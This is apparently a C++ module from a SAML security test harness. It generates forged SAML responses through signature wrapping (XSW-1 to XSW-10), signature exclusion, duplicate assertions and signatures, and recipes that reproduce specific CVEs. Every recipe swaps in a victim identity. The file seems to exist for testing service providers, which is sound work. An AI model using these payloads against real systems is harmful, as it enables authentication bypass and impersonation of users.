// Signature wrapping (XSW-1..10), signature exclusion (SX-*), several
// assertions or signatures (MA-*, MS-*), and the CVE recipes built on them.
// Recipes follow attacks.md section 1 (SAML Raider's XSWHelpers for XSW).
#include <string>

#include "attacks/mutation_util.hpp"
#include "attacks/recipes.hpp"

#define SAMLH_TRY(expr)             \
  do {                              \
    if (auto st_ = (expr); !st_) {  \
      return st_.failure();         \
    }                               \
  } while (false)

namespace samlh::idp::recipes {
namespace {

using namespace mut;
namespace ns = core::ns;

MutationResult<Doc> signed_base(const MutationMaterial& m, SigningVariant v) {
  auto d = load(m.unsigned_xml);
  if (!d) return d;
  if (auto st = sign_variant(*d, v, m); !st) return st.failure();
  return d;
}

// The attacker's copy: the assertion with its Signature removed, a new ID
// and the victim as NameID.
xmlNode* evil_copy(const xmlNode* assertion, const MutationMaterial& m, const char* id) {
  xmlNode* evil = deep_copy(assertion);
  strip_signature(evil);
  if (id != nullptr) set_attr(evil, "ID", id);
  xmlNode* nid = saml_child(saml_child(evil, "Subject"), "NameID");
  if (nid != nullptr) set_text(nid, m.victim);
  return evil;
}

void make_evil(xmlNode* assertion, const MutationMaterial& m) {
  xmlNode* nid = saml_child(saml_child(assertion, "Subject"), "NameID");
  if (nid != nullptr) set_text(nid, m.victim);
}

Mutated done(const Doc& d, std::string note) { return one(dump(d), std::move(note)); }

// A signature over some other IdP-signed document (signed metadata, a
// signed logout response...): what SX-5 and CVE-2025-47949 need.
MutationResult<core::XmlDocPtr> foreign_signed_document(const MutationMaterial& m) {
  auto doc = core::parse_untrusted(
      R"(<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" ID="_metadata1" entityID="idp"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"/></md:EntityDescriptor>)");
  if (!doc) return failed(doc.failure());
  xmlNode* root = xmlDocGetRootElement(doc->get());
  if (auto st = sign_element(root, m.idp_key, m.sign_options); !st) return st.failure();
  return std::move(doc).value();
}

xmlNode* ensure_status_detail(Doc& d) {
  xmlNode* status = samlp_child(d.response, "Status");
  xmlNode* detail = samlp_child(status, "StatusDetail");
  if (detail == nullptr) {
    detail = new_element(status, ns::kSamlp, "saml2p", "StatusDetail");
    xmlAddChild(status, detail);
  }
  return detail;
}

xmlNode* insert_extensions(Doc& d) {
  xmlNode* ext = new_element(d.response, ns::kSamlp, "saml2p", "Extensions");
  xmlNode* status = samlp_child(d.response, "Status");
  xmlAddPrevSibling(status, ext);
  return ext;
}

}  // namespace

// The signed original, copied without its Signature, while `signed_node`
// itself (keeping the signature) gets the evil subject and, unless null,
// `evil_id`: the shape shared by XSW-1, 2, 5, 6 and 8, which differ only in
// where the copy goes.
xmlNode* clean_copy_then_make_evil(xmlNode* signed_node, xmlNode* assertion, const char* evil_id,
                                   const MutationMaterial& m) {
  xmlNode* clean = deep_copy(signed_node);
  strip_signature(clean);
  if (evil_id != nullptr) set_attr(signed_node, "ID", evil_id);
  make_evil(assertion, m);
  return clean;
}

MutationResult<Mutated> xsw1(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::response);
  if (!d) return d.failure();
  xmlNode* clone = clean_copy_then_make_evil(d->response, d->assertion, "_evil_response_ID", m);
  xmlAddChild(ds_child(d->response, "Signature"), clone);
  return done(*d, "XSW-1: evil Response root; the signed original copied into its Signature");
}

MutationResult<Mutated> xsw2(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::response);
  if (!d) return d.failure();
  xmlNode* clone = clean_copy_then_make_evil(d->response, d->assertion, "_evil_response_ID", m);
  xmlAddPrevSibling(ds_child(d->response, "Signature"), clone);
  return done(*d, "XSW-2: evil Response root; the signed original copied before its Signature");
}

MutationResult<Mutated> xsw3(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlAddPrevSibling(d->assertion, evil_copy(d->assertion, m, "_evil_assertion_ID"));
  return done(*d, "XSW-3: evil unsigned assertion inserted before the signed one");
}

MutationResult<Mutated> xsw4(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* evil = evil_copy(d->assertion, m, "_evil_assertion_ID");
  xmlAddChild(d->response, evil);
  xmlUnlinkNode(d->assertion);
  xmlAddChild(evil, d->assertion);
  xmlReconciliateNs(d->doc.get(), evil);
  return done(*d, "XSW-4: the signed assertion moved inside an evil one");
}

MutationResult<Mutated> xsw5(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* clean = clean_copy_then_make_evil(d->assertion, d->assertion, "_evil_assertion_ID", m);
  xmlAddChild(d->response, clean);
  return done(*d, "XSW-5: evil assertion keeps the signature; clean copy appended");
}

MutationResult<Mutated> xsw6(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* clean = clean_copy_then_make_evil(d->assertion, d->assertion, "_evil_assertion_ID", m);
  xmlAddChild(ds_child(d->assertion, "Signature"), clean);
  return done(*d, "XSW-6: clean copy inside the evil assertion's Signature");
}

MutationResult<Mutated> xsw7(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* ext = new_plain_element(d->doc.get(), "Extensions");
  xmlAddChild(ext, evil_copy(d->assertion, m, nullptr));
  xmlAddPrevSibling(d->assertion, ext);
  return done(*d, "XSW-7: unqualified Extensions holding an evil copy with the same ID");
}

MutationResult<Mutated> xsw8(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* clean = clean_copy_then_make_evil(d->assertion, d->assertion, nullptr, m);  // same ID
  xmlNode* object = new_plain_element(d->doc.get(), "Object");
  xmlAddChild(ds_child(d->assertion, "Signature"), object);
  xmlAddChild(object, clean);
  return done(*d, "XSW-8: unqualified Object in the Signature holding the clean copy (same ID)");
}

MutationResult<Mutated> xsw8_ds_object(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* clean = clean_copy_then_make_evil(d->assertion, d->assertion, nullptr, m);  // same ID
  xmlNode* sig = ds_child(d->assertion, "Signature");
  xmlNode* object = new_element(sig, ns::kDs, "ds", "Object");
  xmlAddChild(sig, object);
  xmlAddChild(object, clean);
  return done(*d, "XSW-8b: ds:Object in the Signature holding the clean copy (same ID)");
}

MutationResult<Mutated> xsw9(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* original_sig = ds_child(d->assertion, "Signature");
  xmlNode* evil = evil_copy(d->assertion, m, "_evil_assertion_ID");
  xmlAddPrevSibling(d->assertion, evil);
  SAMLH_TRY(sign_element(evil, m.attacker_key, m.sign_options));
  xmlNode* fake = ds_child(evil, "Signature");
  xmlNode* fake_info = core::first_element(fake);
  remove_node(ds_child(fake, "SignatureValue"));
  remove_node(ds_child(fake, "KeyInfo"));
  xmlNode* real_info = core::first_element(original_sig);
  xmlAddPrevSibling(fake_info, deep_copy(real_info));
  xmlAddPrevSibling(fake_info, deep_copy(core::next_element(real_info)));
  xmlNode* wrapper = new_plain_element(d->doc.get(), "Wrapper");
  xmlAddChild(d->response, wrapper);
  xmlUnlinkNode(d->assertion);
  xmlAddChild(wrapper, d->assertion);
  xmlReconciliateNs(d->doc.get(), wrapper);
  return done(*d, "XSW-9: double SignedInfo (CVE-2019-3465); original moved into a Wrapper");
}

MutationResult<Mutated> xsw10(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::both);
  if (!d) return d.failure();
  const std::string real_id = core::attr(d->assertion, "ID");
  remove_node(ds_child(d->response, "Signature"));
  xmlNode* sig_copy = deep_copy(ds_child(d->assertion, "Signature"));
  xmlAddNextSibling(saml_child(d->response, "Issuer"), sig_copy);
  xmlNode* object = new_element(sig_copy, ns::kDs, "ds", "Object");
  xmlAddChild(sig_copy, object);
  xmlNode* copy = deep_copy(d->assertion);
  strip_signature(copy);
  xmlAddChild(object, copy);
  set_attr(d->assertion, "ID", real_id + "ffff");
  strip_signature(d->assertion);
  make_evil(d->assertion, m);
  set_attr(d->response, "ID", "@@RESPONSE_ID@@");
  set_attr(copy, "ID", "@@COPY_ID@@");
  std::string xml = dump(*d);
  // Entities only a DTD can give: the libxml2 ID quirk of CVE-2025-23369.
  const std::string dtd = "<!DOCTYPE Response [<!ENTITY idViaEntity \"" + real_id +
                          "\"><!ENTITY BypassIDUniqueness \"&#x50;\">]>\n";
  const auto decl_end = xml.find("?>");
  xml.insert(decl_end == std::string::npos ? 0 : decl_end + 3, dtd);
  xml.replace(xml.find("@@RESPONSE_ID@@"), 15, "&idViaEntity;");
  xml.replace(xml.find("@@COPY_ID@@"), 11, "&BypassIDUniqueness;" + real_id);
  return one(std::move(xml), "XSW-10 / CVE-2025-23369: entity-built IDs with a copy in ds:Object");
}

MutationResult<Mutated> sx1_strip_signatures(const MutationMaterial& m) {
  auto d = signed_base(m, m.variant);
  if (!d) return d.failure();
  strip_all_signatures(*d);
  make_evil(d->assertion, m);
  return done(*d, "SX-1: every Signature removed, NameID changed");
}

MutationResult<Mutated> sx2_edit_after_response_signature(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::response);
  if (!d) return d.failure();
  make_evil(d->assertion, m);
  return done(*d, "SX-2: NameID edited inside a signed Response");
}

MutationResult<Mutated> sx3_strip_response_signature(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::response);
  if (!d) return d.failure();
  strip_signature(d->response);
  make_evil(d->assertion, m);
  return done(*d, "SX-3: Response signature removed, assertion swapped for an unsigned evil one");
}

MutationResult<Mutated> sx4_extra_unsigned_assertion(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlAddNextSibling(d->assertion, evil_copy(d->assertion, m, "_evil_assertion_ID"));
  return done(*d, "SX-4 / CVE-2021-28091: evil unsigned assertion after the signed one");
}

MutationResult<Mutated> sx5_foreign_signature_in_extensions(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  auto foreign = foreign_signed_document(m);
  if (!foreign) return foreign.failure();
  make_evil(d->assertion, m);
  xmlNode* ext = insert_extensions(*d);
  xmlNode* sig = core::child(xmlDocGetRootElement(foreign->get()), ns::kDs, "Signature");
  xmlAddChild(ext, xmlDocCopyNode(sig, d->doc.get(), 1));
  return done(*d, "SX-5 / CVE-2025-47949: a signature from another IdP-signed document in Extensions");
}

MutationResult<Mutated> sx5_foreign_signature_in_status_detail(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  auto foreign = foreign_signed_document(m);
  if (!foreign) return foreign.failure();
  make_evil(d->assertion, m);
  xmlNode* sig = core::child(xmlDocGetRootElement(foreign->get()), ns::kDs, "Signature");
  xmlAddChild(ensure_status_detail(*d), xmlDocCopyNode(sig, d->doc.get(), 1));
  return done(*d, "SX-5: a signature from another IdP-signed document in StatusDetail");
}

MutationResult<Mutated> sx8_signed_assertion_in_advice(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  xmlNode* victim = evil_copy(d->assertion, m, "_advice_assertion");
  xmlNode* advice = new_element(d->assertion, ns::kSaml, "saml2", "Advice");
  xmlNode* after = conditions(*d) != nullptr ? conditions(*d) : subject(*d);
  xmlAddNextSibling(after, advice);
  xmlAddChild(advice, victim);
  SAMLH_TRY(sign_element(victim, m.idp_key, m.sign_options));
  SAMLH_TRY(sign_element(d->response, m.idp_key, m.sign_options));
  return done(*d, "SX-8: a second IdP-signed assertion for the victim inside Advice");
}

MutationResult<Mutated> ma1_two_signed_assertions(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  xmlNode* second = evil_copy(d->assertion, m, "_second_assertion");
  xmlAddNextSibling(d->assertion, second);
  SAMLH_TRY(sign_element(d->assertion, m.idp_key, m.sign_options));
  SAMLH_TRY(sign_element(second, m.idp_key, m.sign_options));
  return done(*d, "MA-1: two validly signed assertions");
}

MutationResult<Mutated> ma2_cve_2022_41912(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  const std::string id = core::attr(d->assertion, "ID") + "_attack";
  xmlAddChild(d->response, evil_copy(d->assertion, m, id.c_str()));
  return done(*d, "MA-2 / CVE-2022-41912: unsigned edited clone appended");
}

MutationResult<Mutated> ma3_assertion_and_encrypted(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* keep = d->assertion;
  xmlNode* copy = deep_copy(keep);
  set_attr(copy, "ID", "_encrypted_copy");
  xmlAddNextSibling(keep, copy);
  d->assertion = copy;
  SAMLH_TRY(encrypt(*d, m, m.encrypt_options));
  d->assertion = keep;
  return done(*d, "MA-3: an Assertion and an EncryptedAssertion");
}

MutationResult<Mutated> ms1_two_signatures(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* sig = ds_child(d->assertion, "Signature");
  xmlAddNextSibling(sig, deep_copy(sig));
  return done(*d, "MS-1: two Signatures in one Assertion");
}

MutationResult<Mutated> ms2_two_signed_info(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* sig = ds_child(d->assertion, "Signature");
  xmlNode* info = core::first_element(sig);
  xmlNode* some = new_element(sig, ns::kDs, "ds", "SomeNode");
  xmlNode* fake = deep_copy(info);
  xmlNode* ref = ds_child(fake, "Reference");
  set_attr(ref, "URI", "#_evil_assertion_ID");
  xmlAddChild(some, fake);
  xmlAddPrevSibling(info, some);
  make_evil(d->assertion, m);
  return done(*d, "MS-2 / CVE-2025-29774: a forged SignedInfo before the real one");
}

MutationResult<Mutated> ms3_digest_value_in_status_detail(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  make_evil(d->assertion, m);
  xmlNode* detail = ensure_status_detail(*d);
  xmlNode* dv = new_element(detail, ns::kDs, "ds", "DigestValue");
  set_text(dv, "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=");
  xmlAddChild(detail, dv);
  return done(*d, "MS-3 / CVE-2024-45409: an extra DigestValue earlier in the document");
}

namespace {
MutationResult<Mutated> move_signature(const MutationMaterial& m, const char* where) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* sig = ds_child(d->assertion, "Signature");
  xmlUnlinkNode(sig);
  make_evil(d->assertion, m);
  const std::string w = where;
  if (w == "extensions") {
    xmlAddChild(insert_extensions(*d), sig);
  } else if (w == "status_detail") {
    xmlAddChild(ensure_status_detail(*d), sig);
  } else {
    xmlNode* advice = new_element(d->assertion, ns::kSaml, "saml2", "Advice");
    xmlAddNextSibling(conditions(*d), advice);
    xmlAddChild(advice, sig);
  }
  xmlReconciliateNs(d->doc.get(), d->response);
  return done(*d, "MS-4 / CVE-2024-8698: the Assertion's Signature moved into " + w);
}
}  // namespace

MutationResult<Mutated> ms4_signature_in_extensions(const MutationMaterial& m) { return move_signature(m, "extensions"); }
MutationResult<Mutated> ms4_signature_in_status_detail(const MutationMaterial& m) {
  return move_signature(m, "status_detail");
}
MutationResult<Mutated> ms4_signature_in_advice(const MutationMaterial& m) { return move_signature(m, "advice"); }

MutationResult<Mutated> ms5_signature_at_end(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* sig = ds_child(d->assertion, "Signature");
  xmlUnlinkNode(sig);
  xmlAddChild(d->assertion, sig);
  return done(*d, "MS-5: the Signature moved to the end of the Assertion (still enveloped, still valid)");
}

MutationResult<Mutated> cve8_second_root(const MutationMaterial& m) {
  auto d = signed_base(m, m.variant);
  if (!d) return d.failure();
  std::string xml = dump(*d);
  xml += core::serialize_node(d->assertion);
  return one(std::move(xml), "CVE-2022-39299: a second root element after the Response");
}

MutationResult<Mutated> cve11_signed_assertion_in_unknown_parent(const MutationMaterial& m) {
  auto d = signed_base(m, SigningVariant::assertion);
  if (!d) return d.failure();
  xmlNode* wrapper = new_element(d->response, ns::kSamlp, "saml2p", "Bogus");
  xmlAddPrevSibling(d->assertion, wrapper);
  xmlUnlinkNode(d->assertion);
  xmlAddChild(wrapper, d->assertion);
  xmlReconciliateNs(d->doc.get(), wrapper);
  return done(*d, "CVE-2021-21238: a valid signed assertion inside a schema-invalid parent");
}

}  // namespace samlh::idp::recipes
